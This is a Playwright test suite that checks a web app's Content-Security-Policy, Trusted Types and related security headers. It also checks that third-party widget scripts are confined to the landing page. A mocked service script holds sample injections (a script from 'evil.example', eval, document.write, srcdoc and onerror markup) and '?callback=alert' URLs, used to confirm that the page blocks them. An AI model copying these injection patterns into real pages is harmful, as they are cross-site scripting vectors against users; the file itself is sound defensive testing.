import type { Page } from '@playwright/test';
import { alsoThrown, passedOver, thrown } from '../faults/remote-broken/src/attempts';
import { test as faulty } from '../faults/site';
import { failureLine } from '../faults/visitor';
import { expect, test } from '../test';
import { standInForServices } from '../services';

/** The directives of a page's policy. */
async function policyOf(page: Page, path: string): Promise<Record<string, string[]>> {
  const policy = (await page.request.get(path)).headers()['content-security-policy'] ?? '';
  const directives = policy.split('; ').map((directive) => directive.split(' '));
  return Object.fromEntries(directives.map(([name = '', ...values]) => [name, values]));
}

const thirdParties = {
  scripts: ['https://tally.so/widgets/embed.js', 'https://app.cal.com/embed/embed.js'],
  frames: ['https://tally.so', 'https://app.cal.com'],
};

test('the policy lets in what the registry names, and third parties on the landing page alone', async ({
  page,
}) => {
  for (const path of ['/', '/markets', '/market/1', '/nowhere']) {
    const policy = await policyOf(page, path);
    expect(policy['require-trusted-types-for']).toEqual(["'script'"]);
    expect(policy['trusted-types']).toEqual(['default', 'site-data']);
  }
  for (const path of ['/markets', '/market/1', '/nowhere']) {
    const policy = await policyOf(page, path);
    expect(policy['default-src']).toEqual(["'none'"]);
    // The hash is that of the early script.
    expect(policy['script-src']?.join(' ')).toMatch(/^'self' 'sha256-[^ ]+'$/);
    expect(policy['frame-src']).toEqual(["'none'"]);
    expect(policy['object-src']).toEqual(["'none'"]);
    expect(policy['base-uri']).toEqual(["'none'"]);
    expect(policy['frame-ancestors']).toEqual(["'none'"]);
    expect(policy['form-action']).toEqual(["'self'"]);
    expect(policy['connect-src']).toEqual(["'self'"]);
    expect(policy['worker-src']).toEqual(["'none'"]);
    // The page itself names its styles, which differ from one page to the next.
    expect(policy['style-src-elem']).toEqual(["'self'", "'unsafe-inline'"]);
    const text = await (await page.request.get(path)).text();
    expect(text).toMatch(
      /<head><!--policy--><meta http-equiv="Content-Security-Policy" content="style-src-elem 'self'( 'sha256-[^" ]+')+">/,
    );
    expect(JSON.stringify(policy)).not.toMatch(/unsafe-eval|https:/);
  }
  const landing = await policyOf(page, '/');
  expect(landing['script-src']).toEqual([
    "'self'",
    expect.stringMatching(/^'sha256-/),
    ...thirdParties.scripts,
  ]);
  expect(landing['frame-src']).toEqual(thirdParties.frames);
  expect(landing['style-src-elem']).toEqual(["'self'", "'unsafe-inline'"]);
  expect(landing['connect-src']).toEqual(["'self'"]);
});

test('the other headers of a page are strict', async ({ page }) => {
  const headers = (await page.request.get('/markets')).headers();
  expect(headers['integrity-policy']).toBe('blocked-destinations=(script)');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
  expect(headers['permissions-policy']).toContain('camera=()');
});

/** Adds a script to the page; resolves to whether it ran, and not where its address is refused already. */
const runs = (page: Page, attributes: Record<string, string>) =>
  page.evaluate(
    (attributes) =>
      new Promise<boolean>((resolve) => {
        const script = document.createElement('script');
        for (const [name, value] of Object.entries(attributes)) script.setAttribute(name, value);
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
        document.head.append(script);
      }).catch(() => false),
    attributes,
  );

test('no script runs without a hash', async ({ page, expectedErrors }) => {
  expectedErrors.push(/policy violation|report: |Content Security Policy|Integrity-Policy|Failed to load/i);
  await page.goto('/markets');
  await expect(page.getByRole('article')).toHaveCount(11);
  const own = await page.locator('link[href*="remoteEntry"]').evaluate((link: HTMLLinkElement) => ({
    src: link.href,
    integrity: link.integrity,
    crossorigin: 'anonymous',
  }));
  expect(await runs(page, own)).toBe(true);
  expect(await runs(page, { src: own.src, crossorigin: own.crossorigin })).toBe(false);
});

/** Marks the present document; the next one has no mark. */
const mark = (page: Page) => page.evaluate(() => void (document.documentElement.dataset['mark'] = ''));
const isMarked = (page: Page) => page.evaluate(() => 'mark' in document.documentElement.dataset);

test('the landing page comes as a document of its own, and others from there do not', async ({ page }) => {
  await page.goto('/markets');
  await mark(page);
  await page
    .getByRole('link', { name: /Forecast/ })
    .first()
    .click();
  await expect(page.getByRole('button', { name: 'Join Waitlist' })).toBeVisible();
  expect(await isMarked(page)).toBe(false);
  // Before it runs, every link leads to a document.
  await expect(page.locator('[data-prepared]')).toHaveCount(0);
  await mark(page);
  await page.getByRole('link', { name: 'Browse markets' }).click();
  await expect(page.getByRole('article')).toHaveCount(11);
  expect(await isMarked(page)).toBe(true);
  await page.goBack();
  await expect(page.getByRole('button', { name: 'Join Waitlist' })).toBeVisible();
  expect(await isMarked(page)).toBe(true);
});

test("another service's script sees no page after the one that it was asked for on", async ({ page }) => {
  await standInForServices(page);
  await page.goto('/');
  await page.getByRole('button', { name: 'Join Waitlist' }).click();
  await expect(page.getByRole('dialog', { name: 'waitlist form' })).toBeFocused();
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'Browse markets' }).click();
  await expect(page.getByRole('article')).toHaveCount(11);
  expect(await page.evaluate(() => 'Tally' in window)).toBe(false);
});

test("another service's script sees no other page either where it hangs, and may run at any time", async ({
  page,
}) => {
  await page.route('https://tally.so/widgets/embed.js', () => undefined);
  await page.goto('/');
  await expect(page.locator('[data-prepared]')).toHaveCount(0);
  await page.clock.install();
  await page.getByRole('button', { name: 'Join Waitlist' }).focus();
  await page.clock.runFor(60_000);
  await mark(page);
  await page.getByRole('link', { name: 'Browse markets' }).click();
  await expect(page.getByRole('article')).toHaveCount(11);
  expect(await isMarked(page)).toBe(false);
});

test('a file of a release that is no script does not run, where no hash is asked for either', async ({
  page,
  expectedErrors,
}) => {
  expectedErrors.push(/Refused to execute script|Failed to load resource|requires 'Trusted|violation/);
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Join Waitlist' })).toBeVisible();
  const entry = await page
    .locator('#site-data')
    .evaluate((block) => /\/r\/landing\/[^"]+\.js/.exec(block.textContent)?.[0] ?? '');
  expect(await runs(page, { src: entry })).toBe(true);
  for (const file of [
    'release.json',
    'contract.json',
    `${entry}.map`,
    `${entry}?callback=alert`,
    'none.js',
  ]) {
    const src = new URL(file, new URL(entry, page.url())).href;
    expect([file, await runs(page, { src })]).toEqual([file, false]);
  }
});

/** What the browser says where a text is to become code. */
const refusals = /policy violation|report: |Content Security Policy|TrustedTypePolicy|requires 'Trusted/;

test('of another service, no script runs but the one that is named', async ({ page, expectedErrors }) => {
  expectedErrors.push(refusals);
  await page.route('https://app.cal.com/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: '' }),
  );
  await page.goto('/');
  // Which scripts may come, the site says once it has started.
  await expect(page.locator('[data-prepared]')).toHaveCount(0);
  expect(await runs(page, { src: 'https://app.cal.com/embed/embed.js' })).toBe(true);
  for (const other of ['any/user/content.js', 'embed/embed.js?callback=alert', 'embed/embed.js#x']) {
    expect([other, await runs(page, { src: `https://app.cal.com/${other}` })]).toEqual([other, false]);
  }
});

/** Stands in for a service's script: builds a form from texts as those do, and then goes on to what it may not. */
function service() {
  const template = document.createElement('template');
  template.innerHTML = '<div role="dialog" aria-label="A form"><p></p></div>';
  const form = template.content.firstElementChild;
  if (form?.firstElementChild) {
    form.firstElementChild.attachShadow({ mode: 'open' }).innerHTML = '<b>In the shadow</b>';
    document.body.append(form);
  }
  const attempts = {
    'a script of others': () => (document.createElement('script').src = 'https://evil.example/a.js'),
    eval: () => (0, eval)('window.ran = true') as unknown,
    'document.write': () => document.write('<script>window.ran = true</script>'),
    srcdoc: () => (document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'),
    outerHTML: () => form && (form.outerHTML = '<img onerror="window.ran = true" src="data:,">'),
  };
  const refused = Object.entries(attempts).flatMap(([name, attempt]) => {
    try {
      attempt();
      return [];
    } catch {
      return [name];
    }
  });
  Object.assign(window, { refused, Tally: { openPopup: () => undefined, closePopup: () => undefined } });
}

test("a service's script may make its looks of text, and no code", async ({ page, expectedErrors }) => {
  expectedErrors.push(refusals);
  await page.route('https://tally.so/widgets/embed.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `(${service.toString()})()` }),
  );
  await page.goto('/');
  await page.getByRole('button', { name: 'Join Waitlist' }).click();
  await expect(page.getByRole('dialog', { name: 'A form' })).toContainText('In the shadow');
  expect(await page.evaluate(() => (window as unknown as { refused: string[] }).refused)).toEqual([
    'a script of others',
    'eval',
    'document.write',
    'srcdoc',
    'outerHTML',
  ]);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

/** Opens a page of a part that makes code of texts; gives the errors that the page has logged since. */
async function openHostilePart(page: Page, url: string): Promise<readonly string[]> {
  const logged: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') logged.push(message.text());
  });
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.ran = true' }),
  );
  await page.goto(`${url}/markets`);
  await expect(page.getByRole('heading', { name: 'Broken on purpose' })).toBeVisible();
  return logged;
}

for (const [group, attempts] of Object.entries({ 'in its own page': thrown, 'from elsewhere': alsoThrown })) {
  faulty(
    `a part that makes code of a text ${group} has a numbered error each time`,
    async ({ page, site, expectedErrors }) => {
      expectedErrors.push(refusals);
      await site.break('markets', 'makes code of a text');
      const logged = await openHostilePart(page, site.url);
      const told = () => logged.filter((line) => line.startsWith('FED-008 in part "markets"')).length;
      for (const [index, name] of Object.keys(attempts).entries()) {
        await page.getByRole('button', { name, exact: true }).click();
        await expect.poll(() => [name, told()]).toEqual([name, index + 1]);
      }
      await expect(failureLine(page, 'FED-008', 'markets')).toBeVisible();
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    },
  );
}

faulty(
  'where the browser tells the part nothing, nothing runs either',
  async ({ page, site, expectedErrors }) => {
    expectedErrors.push(refusals);
    await site.break('markets', 'makes code of a text');
    const logged = await openHostilePart(page, site.url);
    for (const name of Object.keys(passedOver)) {
      const before = logged.length;
      await page.getByRole('button', { name, exact: true }).click();
      await expect.poll(() => [name, logged.length > before]).toEqual([name, true]);
    }
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  },
);
